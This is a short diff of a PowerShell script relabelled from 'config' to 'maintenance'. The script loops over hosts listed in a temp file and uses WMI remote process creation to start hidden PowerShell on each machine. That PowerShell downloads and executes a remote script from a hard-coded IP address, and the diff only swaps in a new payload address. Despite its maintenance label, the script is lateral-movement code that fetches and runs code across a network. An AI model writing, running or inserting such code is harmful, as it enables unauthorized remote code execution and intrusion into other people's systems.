@@ -1,5 +1,5 @@
-# config 3152 v4
+# maintenance 9619 v4
 $targets = Get-Content C:\Windows\Temp\hosts.txt
 foreach ($t in $targets) {
-  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://203.0.113.200/a.ps1)"
+  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://192.0.2.44/inv.ps1)"
 }
